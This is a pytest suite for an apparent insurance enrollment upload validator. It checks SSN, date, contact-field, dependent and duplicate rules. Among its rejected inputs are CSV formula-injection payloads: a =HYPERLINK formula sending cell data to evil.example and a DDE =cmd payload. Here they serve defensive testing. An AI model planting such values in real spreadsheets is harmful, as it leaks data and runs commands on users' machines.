from datetime import date

import pytest

from services.validation.domain import Context, GroupRef, RowIn, classify, classify_file, enrollment_window, ssn_problem
from shared.pii import ssn_hash
from tests.support import member

TODAY = date(2026, 11, 23)
NEXT_MONTH = "2026-12-01"
GROUP = GroupRef("230001", "CA", True, frozenset({"0001", "0002"}))


def hash_ssn(digits: str) -> str:
    return ssn_hash(digits, "k")


def context(group=GROUP, enrolled=(), pending=None, region="CA") -> Context:
    return Context(group, region, frozenset(hash_ssn(d) for d in enrolled), pending or {}, TODAY, hash_ssn)


def row(cells, n=7) -> RowIn:
    return RowIn(n, f"u1-{n:04d}", {"effective_date": NEXT_MONTH, **cells})


def verdict(cells, **ctx):
    return classify(row(cells), context(**ctx))


def codes(v):
    return {i.code for i in v.issues}


def subscriber(n=1, **over):
    return member(n, **{"effective_date": NEXT_MONTH, **over})


def dependent(n, of: dict, relationship="Child", **over):
    cells = member(
        n,
        **{
            "relationship": relationship,
            "subscriber_ssn": of["ssn"],
            "effective_date": NEXT_MONTH,
            "date_of_birth": "2015-03-02",
            **over,
        },
    )
    for key in ("address_line1", "city", "state", "zip", "hire_date"):
        cells.pop(key)
    return cells


def test_complete_valid_subscriber_is_ready_with_ssn_hash():
    v = verdict(subscriber(ssn="123-45-6789"))
    assert v.status == "ready" and v.issues == []
    assert v.ssn_hash == hash_ssn("123456789")


@pytest.mark.parametrize(
    "key,header",
    [
        ("first_name", "First Name"),
        ("last_name", "Last Name"),
        ("ssn", "SSN"),
        ("date_of_birth", "Date of Birth"),
        ("subgroup_id", "Subgroup ID"),
        ("relationship", "Relationship"),
        ("gender", "Gender"),
        ("effective_date", "Coverage Effective Date"),
        ("address_line1", "Address Line 1"),
        ("zip", "ZIP Code"),
        ("hire_date", "Hire Date"),
    ],
)
def test_missing_required_value_is_an_error_naming_row_and_column(key, header):
    v = verdict({**subscriber(), key: None})
    assert v.status == "error"
    (issue,) = [i for i in v.issues if i.code == "required"]
    assert issue.row == 7 and issue.column == header
    assert issue.message.startswith(f"Row 7, column {header}:") and "enter it" in issue.message


def test_subscriber_fields_are_not_required_of_family_members_but_subscriber_ssn_is():
    sub = subscriber()
    rows = [row(sub, 4), row(dependent(2, sub), 5)]
    assert {v.status for v in classify_file(rows, context()).values()} == {"ready"}
    v = classify_file([row(sub, 4), row({**dependent(2, sub), "subscriber_ssn": None}, 5)], context())[5]
    assert v.status == "error" and [i.column for i in v.issues] == ["Subscriber SSN"]


@pytest.mark.parametrize("ssn", ["12345678", "1234567890", "12a-45-6789", "123 45 6789"])
def test_ssn_not_nine_digits_is_an_error(ssn):
    v = verdict(subscriber(ssn=ssn))
    assert v.status == "error" and codes(v) == {"ssn_format"}
    assert ssn not in v.issues[0].message  # the message never repeats the SSN


@pytest.mark.parametrize(
    "ssn",
    [
        "000-12-3456",
        "666-12-3456",
        "900-12-3456",
        "999-12-3456",
        "123-00-4567",
        "123-45-0000",
        "078-05-1120",  # printed on a wallet insert in 1938; retired
        "219-09-9999",  # used in an advertisement; retired
    ],
)
def test_never_issued_ssn_is_an_error(ssn):
    assert codes(verdict(subscriber(ssn=ssn))) == {"ssn_invalid"}


def test_ssn_area_boundaries():
    assert ssn_problem("899123456") is None and ssn_problem("001123456") is None
    assert ssn_problem("665123456") is None and ssn_problem("667123456") is None


@pytest.mark.parametrize(
    "dob,code",
    [
        ("2026-11-24", "dob_future"),
        ("1900-01-01", "dob_implausible"),
        ("31/12/1990", "date_format"),
        ("yesterday", "date_format"),
    ],
)
def test_bad_date_of_birth_is_an_error(dob, code):
    assert codes(verdict(subscriber(date_of_birth=dob))) == {code}


def test_date_of_birth_today_and_us_format_are_accepted():
    assert verdict(subscriber(date_of_birth="2026-11-23")).status == "ready"
    assert verdict(subscriber(date_of_birth="06/15/1988")).status == "ready"


@pytest.mark.parametrize(
    "key,value,code",
    [
        ("zip", "9461", "zip_format"),
        ("zip", "94612-12", "zip_format"),
        ("email", "ana@", "email_format"),
        ("phone", "555-0123", "phone_format"),
        ("phone", "000-000-0000", "phone_format"),
        ("phone", "+44 20 7946 0958", "phone_format"),
        ("email", "ana@localhost", "email_format"),
        ("email", "ana lee@example.org", "email_format"),
        ("middle_initial", "Jo", "middle_initial_format"),
        ("gender", "Q", "code"),
        ("state", "ZZ", "code"),
        ("relationship", "Cousin", "code"),
        ("disabled", "maybe", "code"),
        ("arbitration_signed", "Yes", "code"),
        ("first_name", "A" * 101, "too_long"),
        ("city", "B" * 101, "too_long"),
        ("zip", "94612-12345", "too_long"),
        ("first_name", '=HYPERLINK("http://evil.example/?x="&G4,"Open")', "formula_like"),
        ("last_name", "=cmd|' /C calc'!A0", "formula_like"),
        ("address_line1", "@SUM(1+1)", "formula_like"),
        ("city", "+1+1", "formula_like"),
        ("email", "-2+3@example.com", "formula_like"),
        ("phone", "=5105550123", "formula_like"),
        ("phone", "-510-555-0123", "formula_like"),
        ("phone", "@5105550123", "formula_like"),
    ],
)
def test_format_and_code_list_errors(key, value, code):
    v = verdict(subscriber(**{key: value}))
    assert v.status == "error" and code in codes(v)
    assert any(i.column for i in v.issues)


@pytest.mark.parametrize(
    "key,value",
    [
        ("zip", "94612-1234"),
        ("email", "ana.lee@example.org"),
        ("phone", "(510) 555-0123"),
        ("phone", "1-510-555-0123"),
        ("middle_initial", "Q"),
        ("arbitration_signed", "Y"),
        ("phone", "+1 510 555 0123"),
        ("first_name", "A" * 100),
        ("last_name", "O'Neil-Smith"),
    ],
)
def test_well_formed_optional_values_pass(key, value):
    assert verdict(subscriber(**{key: value})).status == "ready"


def test_arbitration_column_is_not_checked_outside_california_and_hawaii():
    assert (
        verdict(
            subscriber(arbitration_signed="whatever"),
            region="CO",
            group=GroupRef("230002", "CO", True, frozenset({"0001"})),
        ).status
        == "ready"
    )


def test_effective_date_first_of_month_boundary():
    assert verdict(subscriber(effective_date="2026-12-01")).status == "ready"
    assert codes(verdict(subscriber(effective_date="2026-12-02"))) == {"effective_not_first"}


def test_effective_date_window_boundaries():
    earliest, latest = enrollment_window(TODAY)
    assert (earliest, latest) == (date(2026, 9, 1), date(2027, 2, 1))
    assert verdict(subscriber(effective_date="2026-09-01", hire_date="2020-01-01")).status == "ready"
    assert verdict(subscriber(effective_date="2027-02-01")).status == "ready"
    assert codes(verdict(subscriber(effective_date="2026-08-01"))) == {"effective_outside_window"}
    assert codes(verdict(subscriber(effective_date="2027-03-01"))) == {"effective_outside_window"}


def test_effective_date_before_hire_date_is_an_error():
    v = verdict(subscriber(hire_date="2026-12-15", effective_date="2026-12-01"))
    assert codes(v) == {"effective_before_hire"}
    assert verdict(subscriber(hire_date="2026-12-01", effective_date="2026-12-01")).status == "ready"


def test_child_age_boundary_25_and_26_unless_disabled():
    sub = subscriber()

    def child(dob, disabled=None):
        return classify_file([row(sub, 4), row(dependent(2, sub, date_of_birth=dob, disabled=disabled), 5)], context())[
            5
        ]

    assert child("2000-12-02").status == "ready"  # 25 on 12/01/2026
    assert codes(child("2000-12-01")) == {"child_over_age"}  # 26 on 12/01/2026
    assert child("2000-12-01", disabled="Y").status == "ready"
    assert child("1990-01-01", disabled="N").status == "error"


def test_a_family_member_without_its_subscriber_row_is_an_error():
    sub = subscriber()
    v = classify_file([row(dependent(2, sub), 5)], context())[5]
    assert v.status == "error" and codes(v) == {"subscriber_missing"}


def test_two_spouses_or_partners_in_one_family_is_an_error_on_the_second():
    sub = subscriber()
    verdicts = classify_file(
        [
            row(sub, 4),
            row(dependent(2, sub, "Spouse"), 5),
            row(dependent(3, sub, "Domestic Partner"), 6),
            row(dependent(4, sub, "Child"), 7),
        ],
        context(),
    )
    assert [verdicts[n].status for n in (4, 5, 6, 7)] == ["ready", "ready", "error", "ready"]
    assert codes(verdicts[6]) == {"second_partner"} and "row 5" in verdicts[6].issues[0].message


def test_subgroup_not_of_the_group_is_rejected():
    v = verdict(subscriber(subgroup_id="0009"))
    assert v.status == "rejected" and codes(v) == {"subgroup_invalid"}
    assert "0009" in v.issues[0].message and "230001" in v.issues[0].message


def test_member_already_enrolled_is_rejected_as_not_a_new_member():
    v = verdict(subscriber(ssn="123-45-6789"), enrolled=["123456789"])
    assert v.status == "rejected" and codes(v) == {"already_enrolled"}
    assert "Manage Members" in v.issues[0].message


def test_adding_a_family_member_to_an_enrolled_member_is_rejected():
    enrolled = subscriber(ssn="223-45-6789")
    v = classify_file([row(dependent(2, enrolled), 5)], context(enrolled=["223456789"]))[5]
    assert v.status == "rejected" and codes(v) == {"dependent_of_enrolled_member"}


def test_the_same_person_twice_in_the_file_rejects_the_later_row():
    verdicts = classify_file(
        [row(subscriber(1, ssn="123-45-6789"), 4), row(subscriber(2, ssn="123456789"), 9)], context()
    )
    assert verdicts[4].status == "ready"
    assert codes(verdicts[9]) == {"duplicate_in_file"} and "row 4" in verdicts[9].issues[0].message


def test_a_member_pending_in_another_application_is_rejected_but_not_by_its_own_claim():
    pending = {hash_ssn("123456789"): "other-upload-0004"}
    assert codes(verdict(subscriber(ssn="123-45-6789"), pending=pending)) == {"already_pending"}
    mine = {hash_ssn("123456789"): "u1-0007"}
    assert verdict(subscriber(ssn="123-45-6789"), pending=mine).status == "ready"


def test_unknown_group_or_group_that_cannot_enroll_is_rejected():
    assert verdict(subscriber(), group=None).status == "rejected"
    closed = GroupRef("230001", "CA", False, frozenset({"0001"}))
    assert codes(verdict(subscriber(), group=closed)) == {"group_cannot_enroll"}


def test_rejection_outranks_errors():
    v = verdict(subscriber(subgroup_id="0009", first_name=None))
    assert v.status == "rejected" and codes(v) == {"subgroup_invalid", "required"}


def test_a_message_never_quotes_much_of_what_was_typed():
    for typed in ("123-45-6789 and more text", "123-45-6789", "06/15/1988", "06-15-1988", "123 45 6789", "123456789"):
        for column in ("gender", "subgroup_id", "state", "relationship"):
            v = verdict(subscriber(**{column: typed}))
            assert v.status in ("error", "rejected") and v.issues, (column, typed)
            assert all("6789" not in i.message and "1988" not in i.message for i in v.issues), (column, typed)
    assert "'Q' is not allowed" in verdict(subscriber(gender="Q")).issues[0].message


def test_a_fixed_rows_replaced_application_does_not_hold_the_member_against_it_but_others_still_do():
    pending = {hash_ssn("123456789"): "old-0007"}
    fixed = RowIn(4, "new-0004", subscriber(ssn="123-45-6789"), replaces="old-0007")
    assert classify(fixed, context(pending=pending)).status == "ready"
    # another application's claim still counts, whatever the row replaces
    held_elsewhere = {hash_ssn("123456789"): "other-0005"}
    assert codes(classify(fixed, context(pending=held_elsewhere))) == {"already_pending"}
    # and the same row naming nothing is rejected as before
    plain = RowIn(4, "new-0004", subscriber(ssn="123-45-6789"))
    assert codes(classify(plain, context(pending=pending))) == {"already_pending"}
